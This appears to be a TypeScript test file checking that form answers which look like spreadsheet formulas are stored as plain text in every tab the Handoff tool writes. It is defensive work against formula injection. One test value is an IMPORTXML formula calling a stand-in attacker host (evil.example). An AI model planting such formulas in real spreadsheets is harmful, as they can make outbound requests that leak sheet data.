/**
 * Form answers that look like formulas (=, +, -, @) land as that text in every tab Handoff writes, never as a
 * formula: a new response, the requester's edit of it, and a second response. The local Sheets parses only `=`
 * (src/local/README.md), so each step writes an `=` answer of its own.
 */
import { RITA } from '../fixtures';
import { intakeWorld, valid } from './helpers';

const EQ = '=IMPORTXML("https://evil.example/","//a")';
const PLUS = '+SUM(1,2)';
const MINUS = '-2+3';
const AT = '@SUM(1,2)';
const EDITED = '=1+1';
const AGAIN = '=SUM(1,2)';

describe('intake: formula-looking answers are stored as text', () => {
  it('in the request and every other tab Handoff writes', () => {
    const t = intakeWorld();
    const link = t.generate();
    const ok = t.w.forms.submitAs(link.formId, RITA, { ...valid, Item: EQ, Justification: PLUS });
    expect(ok.runs[0]!.result).toMatchObject({ status: 'created' });
    // The requester edits the response before any decision: the request takes the new answers.
    const edit = t.w.forms.editAs(ok.responseId, { Item: EDITED, Justification: AT });
    expect(edit.runs[0]!.ok).toBe(true);
    const again = t.w.forms.submitAs(link.formId, RITA, { ...valid, Item: AGAIN, Justification: MINUS });
    expect(again.runs[0]!.result).toMatchObject({ status: 'created' });

    const ss = t.ws.sheets.toJSON().spreadsheets.find((x) => x.id === t.spreadsheetId)!;
    const held = ss.sheets.flatMap((sh) =>
      sh.rows.flatMap((row) =>
        (row ?? []).flatMap((c) => {
          const text = typeof c?.v === 'string' ? c.v : (c?.f ?? null);
          return text !== null && [EQ, PLUS, MINUS, AT, EDITED, AGAIN].includes(text)
            ? [{ tab: sh.name, text, quoted: c?.q === true, formula: c?.f !== undefined }]
            : [];
        }),
      ),
    );
    const handoffTabs = held.filter((c) => !/^Form Responses/.test(c.tab));
    // Never a formula, always the exact text (a quote prefix from setValues, or a string value from the data plane).
    expect(handoffTabs.filter((c) => c.formula)).toEqual([]);
    const where = new Set(handoffTabs.map((c) => `${c.tab}: ${c.text}`));
    expect([...where]).toEqual(expect.arrayContaining([`Requests: ${EDITED}`, `Requests: ${AGAIN}`]));
  });
});
